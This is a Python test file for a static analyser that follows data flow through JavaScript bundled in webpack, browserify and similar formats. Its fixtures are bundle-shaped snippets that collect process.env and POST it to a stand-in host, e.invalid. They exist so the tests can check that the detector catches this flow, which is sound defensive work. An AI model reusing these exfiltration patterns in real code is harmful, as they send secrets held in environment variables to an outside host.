"""Modules that a bundler put into one file: tables by number or name, and wrappers. All of it is inert text."""

from __future__ import annotations

import pytest

from adapters.sigil.local.code.facts import Behaviour
from adapters.sigil.local.code.javascript import javascript_facts

_SENDS = "const r=h.request({hostname:'e.invalid',method:'POST'});r.end(t)"
_LOADER = "function n(r){if(t[r])return t[r].exports;var o=t[r]={exports:{}};return e[r]"
_OLD = "!function(e){var t={};" + _LOADER + ".call(o.exports,o,o.exports,n),o.exports}n(n.s=0)}"
_BROWSERIFY = (
    "(function(){function r(e,n,t){function o(i,f){if(!n[i]){if(!e[i])throw 1;var p=n[i]={exports:{}};"
    "e[i][0].call(p.exports,function(r){var n=e[i][1][r];return o(n||r)},p,p.exports,r,e,n,t)}return n[i].exports}"
    "for(var i=0;i<t.length;i++)o(t[i]);return o}return r})()"
)
_NAMED = (
    "var __names=Object.getOwnPropertyNames;var __commonJS=(cb,mod)=>function(){"
    "return mod||(0,cb[__names(cb)[0]])((mod={exports:{}}).exports,mod),mod.exports};"
)
_WRAPPED = "var a=(t,e)=>()=>(e||t((e={exports:{}}).exports,e),e.exports);"
_COLLECT = "a((x,m)=>{m.exports=()=>process.env});"
_POST = f"a((x,m)=>{{var h=require('https');x.post=(t)=>{{{_SENDS}}}}});"
TABLES = {
    "numbers": (
        "(()=>{var e={17:(e)=>{e.exports=()=>process.env},42:(e,t,n)=>{const h=n(99);t.post=(t)=>{"
        f"{_SENDS}}}}},99:(e)=>{{e.exports=require('https')}}}},t={{}};{_LOADER}(o,o.exports,n),o.exports}}"
        "var r=n(42);r.post(JSON.stringify(n(17)()))})()"
    ),
    "getters": (
        "(()=>{var e={17:(e,t,n)=>{n.d(t,{Z:()=>c});const c=()=>process.env},42:(e,t,n)=>{n.d(t,{post:()=>f});"
        f"var h=n(99);function f(t){{{_SENDS}}}}},99:(e)=>{{e.exports=require('https')}}}},t={{}};"
        f"{_LOADER}(o,o.exports,n),o.exports}}(0,n(42).post)(JSON.stringify((0,n(17).Z)()))}})()"
    ),
    "array": (
        f"{_OLD}([function(e,t,n){{var r=n(1);n(2).post(JSON.stringify(r()))}},"
        "function(e,t){e.exports=function(){return process.env}},"
        f"function(e,t,n){{var h=n(3);t.post=(t)=>{{{_SENDS}}}}},function(e,t){{e.exports=require('https')}}])"
    ),
    "array with getters": (
        f"{_OLD}([function(e,t,n){{n.r(t);var r=n(1),s=n.n(r),o=n(2);Object(o.a)(JSON.stringify(s()()))}},"
        "function(e,t){e.exports=function(){return process.env}},"
        "function(e,t,n){n.d(t,'a',(function(){return f}));var h=n(3);"
        f"function f(t){{{_SENDS}}}}},function(e,t){{e.exports=require('https')}}])"
    ),
    "names for numbers": (
        f"{_BROWSERIFY}({{1:[function(require,module,exports){{module.exports=()=>process.env}},{{}}],"
        f"2:[function(require,module,exports){{const h=require('https');exports.post=(t)=>{{{_SENDS}}}}},"
        "{'https':undefined}],3:[function(require,module,exports){"
        "require('./post').post(JSON.stringify(require('./collect')()))},{'./post':2,'./collect':1}]},{},[3])"
    ),
    "wrapped by name": (
        f"{_NAMED}var c=__commonJS({{'c.js'(exports,module){{module.exports=()=>process.env}}}});"
        "var p=__commonJS({'p.js'(exports,module){const h=require('https');"
        f"exports.post=(t)=>{{{_SENDS}}}}}}});p().post(JSON.stringify(c()()));"
    ),
    "wrapped": f"{_WRAPPED}var c={_COLLECT}var q={_POST}var o=q();o.post(JSON.stringify(c()()));",
    "made at once": (
        "var c={exports:{}};(function(module,exports){module.exports=()=>process.env})(c,c.exports);"
        "var d={exports:{}};(function(module,exports){const h=require('https');"
        f"exports.post=(t)=>{{{_SENDS}}}}})(d,d.exports);d.exports.post(JSON.stringify(c.exports()));"
    ),
}


def sent(code: str) -> set[Behaviour]:
    facts = javascript_facts("index.js", code.encode())
    return {flow.source.behaviour for flow in facts.flows if flow.sink.behaviour is Behaviour.SENDS}


@pytest.mark.parametrize("style", TABLES)
def test_data_goes_from_module_to_module(style: str) -> None:
    """What one module of a table exports is followed to where another sends it, whatever the bundler."""
    assert sent(TABLES[style]) == {Behaviour.READS_ENVIRONMENT}


@pytest.mark.parametrize("style", TABLES)
def test_modules_stay_apart(style: str) -> None:
    """What a module gathers goes nowhere where another is handed something else."""
    apart = TABLES[style]
    for gathered in ("r()", "n(17)()", "(0,n(17).Z)()", "s()()", "require('./collect')()", "c()()", "c.exports()"):
        apart = apart.replace(f"JSON.stringify({gathered})", "'plain'")
    assert (apart != TABLES[style], sent(apart)) == (True, set())


def test_the_loader_of_a_large_bundle_is_found() -> None:
    """A loader is read though it stands far from everything that tells something."""
    padding = ";".join(f"var v{number}=function(){{return {number}}}" for number in range(4_000))
    table = f"{TABLES['array'].removesuffix('])')},function(){{{padding}}}])"
    assert sent(table) == {Behaviour.READS_ENVIRONMENT}


def test_a_file_is_read_again_though_nothing_was_found_at_first() -> None:
    """A library that goes through a function of the file is known only when the file is read a second time."""
    code = (
        "function same(m) { return m; }\nconst c = same(require('axios'));\nc.post('https://e.invalid/', process.env);"
    )
    assert sent(code) == {Behaviour.READS_ENVIRONMENT}
